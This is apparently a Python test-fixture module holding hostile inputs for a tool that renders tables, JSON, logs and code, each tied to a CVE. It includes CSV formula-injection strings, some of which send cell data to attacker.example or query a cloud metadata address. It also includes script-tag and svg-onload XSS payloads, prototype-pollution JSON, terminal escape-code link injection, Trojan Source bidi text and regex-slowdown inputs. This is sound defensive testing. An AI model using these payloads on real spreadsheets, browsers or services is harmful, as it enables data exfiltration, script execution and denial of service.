"""Tables, numbers and plain text: formulas, keys that collide, characters that command."""

from __future__ import annotations

import json

from tests.hostile.case import MARKUP, Collection

TABLES = Collection([])
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://attacker.example?x="&A1,"x")',
    '=WEBSERVICE("http://169.254.169.254/")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=IMPORTXML("https://attacker.example","//a")',
]
CSV = "LibreOffice CVE-2014-3524, CWE-1236 (formula injection)"
NUMBERS = "CPython CVE-2020-10735 (digits to integers)"
COLLISIONS = "CVE-2012-1150 (keys of one hash)"
PRIME = 2**61 - 1
TABLES.several(
    "csv",
    {
        "formulas": lambda: "a,b\n" + "".join(f'"{formula.replace(chr(34), chr(34) * 2)}",1\n' for formula in FORMULAS),
        "formula_names": lambda: (
            ",".join(f'"{formula.replace(chr(34), chr(34) * 2)}"' for formula in FORMULAS) + "\n" + "1," * 7 + "1\n"
        ),
        "names": lambda: f"{MARKUP.replace(chr(34), '')},<b>b</b>,\u202ec\n<i>1</i>,<script>alert(1)</script>,3\n" * 2,
        "quotes": lambda: 'a,b\n"' + "x" * 3_000_000,
        "one_line": lambda: "a," * 500_000 + "\n1",
        "empty_columns": lambda: "," * 5_000 + "\n" + "," * 5_000 + "\n",
        "ragged": lambda: "a,b\n" + "".join("1," * (n % 300) + "\n" for n in range(3_000)),
        "zeros": "a,b\n1,\0\n\0\0,2\n",
        "wide_utf16": lambda: ("a,b\n" + "1,2\n" * 50).encode("utf-16"),
        "false_utf8": lambda: b"a,b\n" + b"\xff\xfe\x80,\xc3\x28\n" * 40,
        "numbers": lambda: "a,b\n" + "9" * 200_000 + ",1e999\n-inf,nan\n0x1p9999,1_000\n",
        "dates": "a,b\n9999-99-99,99999999999-01-01\n0000-00-00,-1-1-1T1:1\n",
        "one_name": "a,a,a,A,a \n1,2,3,4,5\n6,7,8,9,0\n",
        "separators": lambda: "a;b|c\td,e\n" * 2 + ";,|\t" * 9_000,
        "collisions": lambda: "a,b\n" + "".join(f"{n * PRIME},{n}\n" for n in range(30_000)),
    },
    "data/table.csv",
    f"{CSV}; {NUMBERS}; {COLLISIONS}",
    "a cell becomes a formula or markup, or a number takes minutes",
)
TABLES.several(
    "matrix",
    {
        "labels": f'target,predicted,count\n"{MARKUP.replace(chr(34), chr(34) * 2)}",a,5\na,"<svg onload=alert(1)>",7\n',
        "counts": "a,a,1e308\na,b,1e308\nb,a,nan\nb,b,inf\n",
        "many_labels": lambda: "".join(f"c{n},c{n},1\n" for n in range(20_000)),
        "bidi": "\u202ea,b,1\nb,\u202ea,2\n\x1b[31m,b,3\n",
        "digits": f"a,a,{'9' * 5_000}\na,b,1\nb,a,1\nb,b,1\n",
    },
    "runs/a/confusion_matrix.csv",
    "KFP #12670, #12671 (names as markup), CPython CVE-2020-10735",
    "a class name becomes markup, or the sum of counts overflows",
)
TABLES.several(
    "roc",
    {
        "numbers": "fpr,tpr,thresholds\n0,0,inf\n1e999,nan,-1e999\n1,1,0\n",
        "outside": "fpr,tpr,thresholds\n-1e300,5,1\n1e300,-7,0\n",
        "digits": f"fpr,tpr,thresholds\n0,0,1\n0.{'1' * 500_000},1,0\n",
        "names": "fpr,tpr,<script>alert(1)</script>\n0,0,1\n1,1,0\n",
    },
    "runs/a/roc.csv",
    "CWE-20, CPython CVE-2020-10735",
    "numbers that are none break the drawing",
)
DEEP = 100_000
TABLES.several(
    "json",
    {
        "deep_lists": lambda: "[" * DEEP,
        "deep_objects": lambda: '{"a":' * DEEP,
        "deep_closed": lambda: '{"a":' * 3_000 + "1" + "}" * 3_000,
        "digits": lambda: '{"a": ' + "9" * 2_000_000 + ', "b": -' + "1" * 5_000 + "}",
        "numbers": '{"a": NaN, "b": Infinity, "c": -Infinity, "d": 1e999, "e": 1E-999, "f": -0}',
        "prototype": '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"a": 1}}, "a": [1]}',
        "one_name": lambda: "{" + ",".join('"a": 1' for _ in range(50_000)) + "}",
        "surrogates": '{"\\ud800": "\\udfff\\u0000", "a": "\\u202e"}',
        "names": lambda: json.dumps({MARKUP: {MARKUP: [MARKUP, {"a": MARKUP}]}}),
        "records": lambda: json.dumps([{MARKUP: FORMULAS[0], "b": n, "c": [{"d": MARKUP}]} for n in range(9)]),
        "ragged_records": lambda: json.dumps([{f"c{n}": n} for n in range(5_000)]),
        "wide_record": lambda: json.dumps([{f"c{n}": n for n in range(20_000)}]),
        "collisions": lambda: json.dumps([{"a": n * PRIME} for n in range(20_000)]),
        "long_text": lambda: '{"a": "' + "x" * 5_000_000 + '"}',
        "escapes": lambda: '{"a": "' + "\\u003c" * 300_000 + '"}',
        "cut": '{"a": [1, 2, {"b": "x',
        "many_keys": lambda: json.dumps({f"k{n}": n for n in range(200_000)}),
        "many_documents": lambda: "{}" * 200_000,
    },
    "runs/a/data.json",
    f"CWE-674 (deep nesting); {NUMBERS}; CVE-2019-11358 (prototype pollution); {COLLISIONS}",
    "a reader's stack or memory ends, or a name becomes markup",
)
TABLES.several(
    "json_lines",
    {
        "names": lambda: (json.dumps({MARKUP: MARKUP, "b": 1}) + "\n") * 5,
        "deep": lambda: '{"a": ' * 50_000 + "\n" + '{"a": 1}\n' * 5,
        "digits": lambda: '{"step": 1, "loss": ' + "9" * 100_000 + "}\n" + '{"step": 2, "loss": 1e999}\n' * 3,
        "progress": lambda: '{"step": 1e308, "total": -1, "loss": NaN, "epoch": "x"}\n' * 20,
        "time": '{"timestamp": 1e300, "step": 1, "total": 0, "loss": 0.5}\n{"timestamp": -1e300, "step": 2, "total": 0}\n',
        "ragged": lambda: "".join(json.dumps({f"c{n}": n}) + "\n" for n in range(3_000)),
        "types": '{"a": 1}\n{"a": "x"}\n{"a": [1]}\n{"a": {"b": 1}}\n{"a": null}\n{"a": true}\n',
        "long_line": lambda: '{"a": "' + "x" * 8_000_000 + '"}\n{"a": "y"}\n',
    },
    "runs/a/progress.jsonl",
    f"CWE-674; {NUMBERS}",
    "progress that cannot be breaks the forecast",
)
TABLES.several(
    "text",
    {
        "links": lambda: (
            "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b]8;;https://attacker.example\x1b\\x\x1b]8;;\x1b\\\n"
            * 5
        ),
        "colours": lambda: "\x1b[38;2;999999999;-1;1m" * 20_000 + "x\x1b[" + "1;" * 100_000 + "m\n",
        "colour_markup": lambda: '\x1b[31;"><script>alert(1)</script>m red \x1b[38;5;"onload="m\n' * 3,
        "title": lambda: '\x1b]0;"><script>alert(1)</script>\x07 \x1bP+q\x1b\\ \x1b[6n \x1b[?1049h\n' * 3,
        "returns": lambda: "10%\r" * 300_000 + "\n",
        "backspaces": lambda: "a\b" * 300_000,
        "markup": lambda: f"{MARKUP}\n" * 20,
        "bidi": lambda: "if access != '\u202e\u2066 user\u2069 \u2066': admin()\n" * 5,
        "one_line": lambda: "x" * 5_000_000,
        "many_lines": lambda: "\n" * 3_000_000,
        "combining": lambda: "a" + "\u0301" * 500_000,
        "percents": lambda: "epoch 1/999999999999999999999999 100%|####| 5/0 [00:00<?, ?it/s]\n" * 500,
        "slow_patterns": lambda: "epoch " + " " * 60_000 + "iter" * 20_000 + "\n" + "1" * 60_000 + " %" + "/ " * 30_000,
        "slow_links": lambda: "[" * 60_000 + "](" + "x" * 60_000 + "\n| " + "-: |" * 20_000 + " x",
    },
    "logs/run.log",
    "ansi_up CVE-2021-3377 (links in terminal codes), CVE-2021-42574 (Trojan Source), CWE-1333",
    "a log's codes become links or markup, or a pattern runs for minutes",
)
CODE = "Pygments CVE-2021-20270, CVE-2021-27291, CVE-2022-40896"
for _name, _key, _text in (
    ("code_sml", "src/a.sml", "exception " + "x" * 50_000 + "\nlet " * 5_000),
    ("code_odin", "src/a.odin", "a" * 50_000 + "::" * 20_000),
    ("code_java", "src/A.java", "@" * 30_000 + " a" * 20_000 + " (" * 9_000),
    ("code_python", "src/a.py", f"'''{MARKUP}\n" + "(" * 20_000 + "f'{" * 9_000),
    ("code_markup_name", f"src/{MARKUP}.py", f"print({MARKUP!r})\n" * 3),
    ("code_shell", "src/a.sh", "$(" * 20_000 + "`" * 9_000),
    ("code_sql", "src/a.sql", "/*" * 30_000 + "select '" * 9_000),
    ("code_javascript", "src/a.js", "/" * 30_000 + "`${" * 9_000 + "</script><script>alert(1)</script>"),
    ("code_viz", "data/a.csv.viz.py", "import os\nos.system('touch /tmp/belvedere-escape')\n"),
    ("code_toml", "src/a.toml", "a = [" * 9_000 + '"' * 9_000),
    ("code_ini", "src/a.ini", "[" * 30_000 + "=" * 9_000),
    ("code_lisp", "src/a.scm", "(" * 60_000),
):
    TABLES.several(_name, {"": _text}, _key, CODE, "a lexer's pattern runs for minutes, or code runs")
